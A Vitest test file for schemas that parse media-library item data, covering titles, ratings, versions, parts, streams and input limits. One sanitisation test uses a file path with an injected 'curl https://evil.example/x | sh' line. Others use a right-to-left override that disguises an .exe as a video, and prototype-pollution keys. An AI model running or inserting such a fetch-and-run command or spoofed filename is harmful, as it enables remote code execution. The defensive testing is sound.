import * as v from 'valibot';
import { describe, expect, test } from 'vitest';
import { itemPageSchema, itemResponseSchema, itemSchema } from './item.ts';

const read = (fields: Record<string, unknown>) => v.parse(itemSchema, { ratingKey: '7', ...fields });
const readStreams = (...Stream: unknown[]) =>
  read({ Media: [{ id: 1, Part: [{ id: 2, key: '/library/parts/2/0/file.mkv', Stream }] }] }).versions[0]?.parts[0]
    ?.streams;

describe('an item', () => {
  test('an item has the fields of the response', () => {
    const item = read({
      key: '/library/metadata/7',
      type: 'episode',
      title: 'Pilot',
      year: 2008,
      originalTitle: 'Piloto',
      editionTitle: 'Unaired',
      originallyAvailableAt: '2008-01-20',
      parentTitle: 'Season 1',
      grandparentTitle: 'A Show',
      index: 1,
      parentIndex: '1',
      duration: 3_480_000,
    });
    expect(item).toStrictEqual({
      ratingKey: '7',
      key: '/library/metadata/7',
      type: 'episode',
      title: 'Pilot',
      year: 2008,
      originalTitle: 'Piloto',
      editionTitle: 'Unaired',
      originallyAvailableAt: '2008-01-20',
      parentTitle: 'Season 1',
      grandparentTitle: 'A Show',
      index: 1,
      parentIndex: 1,
      durationMs: 3_480_000,
      viewOffsetMs: null,
      viewCount: 0,
      externalIds: {},
      showIds: {},
      ratings: [],
      versions: [],
    });
  });

  test.each([
    ['2026-11-02', '2026-11-02'],
    ['2026-11-02T00:00:00Z', '2026-11-02'],
    ['2026-11-02 20:15:00', '2026-11-02'],
    ['2026-13-02', null],
    ['2026-11-020', null],
    ['02.11.2026', null],
    [20261102, null],
    [undefined, null],
  ])('the day of first availability %j is read as %j', (originallyAvailableAt, day) => {
    expect(read({ originallyAvailableAt }).originallyAvailableAt).toBe(day);
  });

  test('an item requires only a rating key', () => {
    expect(v.parse(itemSchema, { ratingKey: 7 })).toMatchObject({
      ratingKey: '7',
      key: '/library/metadata/7',
      title: '',
    });
    expect(v.is(itemSchema, { ratingKey: '' })).toBe(false);
    expect(v.is(itemSchema, { title: 'Nobody' })).toBe(false);
  });

  test('an item of an unknown type has the type "other"', () => {
    expect(read({ type: 'clip' }).type).toBe('other');
    expect(read({ type: null }).type).toBe('other');
    expect(read({ type: 'album' }).type).toBe('album');
  });

  test('an item with malformed fields is still accepted', () => {
    const odd = { title: 5, year: 'long ago', index: {}, duration: null, Guid: 'x', Rating: { value: 1 }, Media: 3 };
    expect(read(odd)).toMatchObject({
      title: '',
      year: null,
      index: null,
      durationMs: null,
      externalIds: {},
      versions: [],
    });
  });
});

describe('texts of an item', () => {
  const readPart = (fields: object) =>
    read({ Media: [{ id: 1, Part: [{ id: 2, key: '/library/parts/2/0/file.mkv', ...fields }] }] }).versions[0]
      ?.parts[0];

  test('every text has one line, without invisible characters', () => {
    const odd = 'a\n\u001b[0m\u202eb\u2028c';
    const stream = { streamType: 2, codec: odd, language: odd, languageTag: odd, displayTitle: odd };
    const part = { id: 2, key: '/k', file: odd, container: odd, Stream: [{ ...stream, extendedDisplayTitle: odd }] };
    const version = { id: 1, container: odd, videoCodec: odd, videoResolution: odd, videoFrameRate: odd, Part: [part] };
    const titles = { title: odd, originalTitle: odd, editionTitle: odd, parentTitle: odd, grandparentTitle: odd };
    const item = read({ ...titles, type: odd, Media: [version] });
    expect(JSON.stringify(item).match(/a {2}\[0mb c/g)).toHaveLength(16);
    expect(JSON.stringify(item)).not.toMatch(/\\[a-z]|[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
  });

  test.each([
    ['/data/films/a.mkv\ncurl https://evil.example/x | sh\n', '/data/films/a.mkv curl https://evil.example/x | sh '],
    ['/data/Film\u202evkm.exe', '/data/Filmvkm.exe'],
    ['/data/\ud800.mkv', '/data/.mkv'],
  ])('the path %j is shown, but is not exact', (file, shown) => {
    expect(readPart({ file })).toMatchObject({ file: shown, fileIsExact: false });
  });

  test('a path of more than 2,000 characters is cut, and is not exact', () => {
    const file = `/data/${'x'.repeat(3_000)}`;
    expect(readPart({ file })).toMatchObject({ file: file.slice(0, 2_000), fileIsExact: false });
  });

  test.each(['/data/films/Léon – 殺し屋 (1994).mkv', 'D:\\films\\a  b .mkv'])('the path %j is exact', (file) => {
    expect(readPart({ file })).toMatchObject({ file, fileIsExact: true });
  });

  test.each(['', ' ', null, 5])('the path %j is none', (file) => {
    expect(readPart({ file })).toMatchObject({ file: null, fileIsExact: true });
  });

  test('a part is dropped if its key is empty, too long or not in one line', () => {
    for (const key of ['/library/parts/1\n', `/library/parts/${'x'.repeat(2_000)}`, '']) {
      expect(readPart({ key })).toBeUndefined();
    }
  });

  test('a key that cannot be used is replaced by the one of the rating key', () => {
    expect(read({ key: '/library/metadata/7\n' }).key).toBe('/library/metadata/7');
    expect(v.is(itemSchema, { ratingKey: '7\n' })).toBe(false);
  });
});

describe('limits of an item', () => {
  const copies = (count: number, entry: object) => new Array(count).fill(entry);

  test('a million versions are read as the first 50, in little time', () => {
    const Media = copies(1_000_000, { id: 1 });
    const startedAt = performance.now();
    expect(read({ Media }).versions).toHaveLength(50);
    expect(performance.now() - startedAt).toBeLessThan(500);
  });

  test('an item has at most 50 versions with 100 parts with 300 streams each', () => {
    const Part = copies(1_000, { id: 2, key: '/k', Stream: copies(1_000, { streamType: 1 }) });
    const [version] = read({ Media: [{ id: 1, Part }] }).versions;
    expect(version?.parts).toHaveLength(100);
    expect(version?.parts[0]?.streams).toHaveLength(300);
  });

  test('only the first 50 ids and ratings are read', () => {
    const Guid = [...copies(50, { id: 'local://1' }), { id: 'tmdb://278' }];
    const Rating = [...copies(50, {}), { image: 'imdb://image.rating', value: 9 }];
    expect(read({ Guid, Rating })).toMatchObject({ externalIds: {}, ratings: [] });
    expect(read({ Guid: Guid.slice(1), Rating: Rating.slice(1) })).toMatchObject({
      externalIds: { tmdb: '278' },
      ratings: [{ source: 'imdb', value: 9 }],
    });
  });

  test.each(['constructor', '__proto__', 'toString'])('a Rotten Tomatoes image named %s has no verdict', (word) => {
    const Rating = [{ image: `rottentomatoes://image.rating.${word}`, type: 'critic', value: 5 }];
    expect(read({ Rating }).ratings).toStrictEqual([{ source: 'rottentomatoes-critic', value: 5 }]);
  });
});

describe('ratings', () => {
  test('ratings are read from the list, with Rotten Tomatoes’ verdict', () => {
    const Rating = [
      { image: 'imdb://image.rating', type: 'audience', value: 9.3 },
      { image: 'rottentomatoes://image.rating.ripe', type: 'critic', value: '8.9' },
      { image: 'rottentomatoes://image.rating.spilled', type: 'audience', value: 4.1 },
      { image: 'themoviedb://image.rating', type: 'audience', value: 8.7 },
    ];
    expect(read({ Rating }).ratings).toEqual([
      { source: 'imdb', value: 9.3 },
      { source: 'rottentomatoes-critic', value: 8.9, fresh: true },
      { source: 'rottentomatoes-audience', value: 4.1, fresh: false },
      { source: 'themoviedb', value: 8.7 },
    ]);
  });

  test.each([
    ['ripe', 'critic', true],
    ['rotten', 'critic', false],
    ['upright', 'audience', true],
    ['spilled', 'audience', false],
  ])('a Rotten Tomatoes image named %s determines the kind %s', (word, kind, fresh) => {
    const Rating = [{ image: `rottentomatoes://image.rating.${word}`, value: 5 }];
    expect(read({ Rating }).ratings).toEqual([{ source: `rottentomatoes-${kind}`, value: 5, fresh }]);
  });

  test.each(['critic', 'audience'])('a rating of the type %s keeps that type with an unknown image', (type) => {
    const Rating = [
      { type, value: 6 },
      { image: 'rottentomatoes://image.rating.green', type, value: 7 },
    ];
    expect(read({ Rating }).ratings).toStrictEqual([
      { source: type, value: 6 },
      { source: `rottentomatoes-${type}`, value: 7 },
    ]);
  });

  test('ratings are read from the older fields if there is no list', () => {
    const rotten = { rating: 3.1, ratingImage: 'rottentomatoes://image.rating.rotten' };
    const upright = { audienceRating: 7, audienceRatingImage: 'rottentomatoes://image.rating.upright' };
    expect(read({ ...rotten, ...upright, userRating: 8 }).ratings).toEqual([
      { source: 'rottentomatoes-critic', value: 3.1, fresh: false },
      { source: 'rottentomatoes-audience', value: 7, fresh: true },
      { source: 'personal', value: 8 },
    ]);
    expect(read({ rating: 6, audienceRating: '7.5' }).ratings).toEqual([
      { source: 'critic', value: 6 },
      { source: 'audience', value: 7.5 },
    ]);
  });

  test('ratings contain each source once', () => {
    const Rating = [{ image: 'imdb://image.rating', type: 'audience', value: 9.3 }];
    const imdb = { audienceRating: 9.3, audienceRatingImage: 'imdb://image.rating' };
    expect(read({ Rating, ...imdb, rating: 9.3 }).ratings).toEqual([{ source: 'imdb', value: 9.3 }]);
    expect(read({ Rating, audienceRating: 9.3 }).ratings).toEqual([{ source: 'imdb', value: 9.3 }]);
    const tmdb = { rating: 8.7, ratingImage: 'themoviedb://image.rating' };
    expect(read({ Rating, ...tmdb }).ratings).toEqual([
      { source: 'imdb', value: 9.3 },
      { source: 'themoviedb', value: 8.7 },
    ]);
  });

  test('only ratings that are out of range or of an unknown source are dropped', () => {
    const entry = (value: unknown) => ({ image: 'imdb://image.rating', type: 'audience', value });
    const nobody = { image: 'unknown://image', type: 'other', value: 5 };
    const tomato = { image: 'rottentomatoes://image.rating.green', value: 5 };
    const Rating = [entry(-1), entry(11), entry('much'), null, nobody, tomato, entry(9)];
    expect(read({ Rating, userRating: -1 }).ratings).toEqual([{ source: 'imdb', value: 9 }]);
  });
});

describe('versions', () => {
  test('versions contain their parts and streams', () => {
    const Media = [
      {
        id: '46',
        duration: 8_520_000,
        bitrate: 24_000,
        width: 3840,
        height: 1608,
        videoResolution: '4k',
        container: 'mkv',
        videoCodec: 'hevc',
        audioCodec: 'eac3',
        audioChannels: 6,
        videoFrameRate: '24p',
        Part: [{ id: 46_618, key: '/library/parts/46618/1389985872/file.mkv', size: '26000000000', container: 'mkv' }],
      },
    ];
    expect(read({ Media }).versions).toEqual([
      {
        id: 46,
        durationMs: 8_520_000,
        bitrateKbps: 24_000,
        width: 3840,
        height: 1608,
        resolution: '4k',
        container: 'mkv',
        videoCodec: 'hevc',
        audioCodec: 'eac3',
        audioChannels: 6,
        frameRate: '24p',
        parts: [
          {
            id: 46_618,
            key: '/library/parts/46618/1389985872/file.mkv',
            file: null,
            fileIsExact: true,
            sizeBytes: 26_000_000_000,
            durationMs: null,
            container: 'mkv',
            availability: 'available',
            streams: [],
          },
        ],
      },
    ]);
  });

  test('only malformed versions and parts are dropped', () => {
    const Media = [
      null,
      { width: 5 },
      { id: 1, videoResolution: '1080p', Part: [{ id: 2 }, 'x', { id: 3, key: '/k' }] },
    ];
    const { versions } = read({ Media });
    expect(versions).toHaveLength(1);
    expect(versions[0]).toMatchObject({ resolution: '1080', width: null, parts: [{ id: 3, key: '/k' }] });
  });
});

describe('parts that cannot be had', () => {
  const readAvailability = (fields: object) =>
    read({ Media: [{ id: 1, Part: [{ id: 2, key: '/library/parts/2/0/file.mkv', ...fields }] }] }).versions[0]?.parts[0]
      ?.availability;

  test.each([false, 0, '0', 'false', 'False', 'no'])(
    'a part that %j says does not exist, or is not accessible',
    (no) => {
      for (const flags of [
        { exists: no },
        { accessible: no },
        { exists: true, accessible: no },
        { exists: no, accessible: 1 },
      ]) {
        expect(readAvailability(flags)).toBe('missing');
      }
    },
  );

  test.each([true, 1, '1', 'true', undefined, null, '', {}])('a part with %j is available', (yes) => {
    expect(readAvailability({ exists: yes, accessible: yes })).toBe('available');
  });

  test.each([
    '/services/iva/assets/1/video.mp4',
    '/services/iva/assets/715933/video.mp4?fmt=4&bitrate=5000',
    '/livetv/sessions/0c0ffee0/index.m3u8',
    '/library/parts/../../services/1',
    'https://cdn.example/trailer.mp4',
    '//cdn.example/library/parts/1',
  ])('a part with the key %s is elsewhere', (key) => {
    expect(readAvailability({ key, exists: 1 })).toBe('elsewhere');
  });

  test('a single version, part or stream may stand for a list of it', () => {
    const Part = { id: 2, key: '/library/parts/2/0/file.mkv', Stream: { streamType: 1 } };
    expect(read({ Media: { id: 1, Part } }).versions).toMatchObject([
      { parts: [{ id: 2, streams: [{ type: 'video' }] }] },
    ]);
  });
});

describe('streams', () => {
  test('streams accept every form of booleans', () => {
    const flags = { default: true, selected: 1, forced: '1', hearingImpaired: 0, visualImpaired: '0' };
    expect(
      readStreams({ streamType: 3, codec: 'srt', language: 'English', languageTag: 'en', key: '/s/1', ...flags }),
    ).toEqual([
      {
        type: 'subtitle',
        codec: 'srt',
        language: 'English',
        languageTag: 'en',
        displayTitle: null,
        extendedDisplayTitle: null,
        isDefault: true,
        selected: true,
        forced: true,
        hearingImpaired: false,
        visualImpaired: false,
        external: true,
        key: '/s/1',
        channels: null,
        channelLayout: null,
        isInterlaced: false,
        bitDepth: null,
        dynamicRange: null,
        dolbyVisionProfile: null,
      },
    ]);
  });

  test('audio streams have channels', () => {
    const stream = readStreams({
      streamType: '2',
      channels: '6',
      audioChannelLayout: '5.1(side)',
      displayTitle: 'English',
    })?.[0];
    expect(stream).toMatchObject({
      type: 'audio',
      channels: 6,
      channelLayout: '5.1(side)',
      dynamicRange: null,
      external: false,
    });
  });

  test.each([
    [{ colorTrc: 'smpte2084' }, 'HDR10', null],
    [{ colorTrc: 'arib-std-b67' }, 'HLG', null],
    [{ colorTrc: 'smpte2084', DOVIPresent: 1, DOVIProfile: '8' }, 'Dolby Vision', 8],
    [{ colorTrc: 'bt709' }, 'SDR', null],
    [{}, 'SDR', null],
  ])('a video stream with %o has the dynamic range %s', (colours, dynamicRange, dolbyVisionProfile) => {
    expect(readStreams({ streamType: 1, ...colours })?.[0]).toMatchObject({ dynamicRange, dolbyVisionProfile });
  });

  test.each([
    [{ scanType: 'interlaced' }, true],
    [{ scanType: 'Interlaced' }, true],
    [{ scanType: 'progressive', displayTitle: '1080i (H.264)' }, false],
    [{ displayTitle: '1080i (MPEG2VIDEO)' }, true],
    [{ displayTitle: '1080p (H.264)' }, false],
    [{ scanType: 1 }, false],
    [{}, false],
  ])('a video stream with %j is interlaced: %s', (scan, isInterlaced) => {
    expect(readStreams({ streamType: 1, ...scan })?.[0]).toMatchObject({ isInterlaced });
    expect(readStreams({ streamType: 2, ...scan })?.[0]).toMatchObject({ isInterlaced: false });
  });

  test('only streams of other types are dropped', () => {
    expect(readStreams({ streamType: 4 }, null, { codec: 'x' }, { streamType: 2 })).toHaveLength(1);
  });
});

test.each(['Metadata', 'Video', 'Directory'])('an item is read from %s', (name) => {
  const item = { ratingKey: '5', title: 'Metropolis' };
  for (const list of [[item], item]) {
    expect(v.parse(itemResponseSchema, { MediaContainer: { size: 1, [name]: list } })).toMatchObject(item);
  }
});

test.each([
  {},
  { MediaContainer: null },
  { MediaContainer: {} },
  { MediaContainer: { Metadata: [] } },
  { MediaContainer: { Metadata: [{}] } },
  { MediaContainer: { Video: '5' } },
  { MediaContainer: { Directory: [] } },
  { MediaContainer: { Track: [{ ratingKey: '5' }] } },
])('%j is rejected, as it has no item', (answer) => {
  expect(v.is(itemResponseSchema, answer)).toBe(false);
});

test('the count of a page includes malformed items', () => {
  const list = { MediaContainer: { totalSize: '12', Metadata: [{ ratingKey: '1' }, {}, { ratingKey: '2' }] } };
  expect(v.parse(itemPageSchema, list)).toMatchObject({
    items: [{ ratingKey: '1' }, { ratingKey: '2' }],
    count: 3,
    total: 12,
  });
  expect(v.parse(itemPageSchema, { MediaContainer: { size: 0 } })).toEqual({ items: [], count: 0, total: null });
});
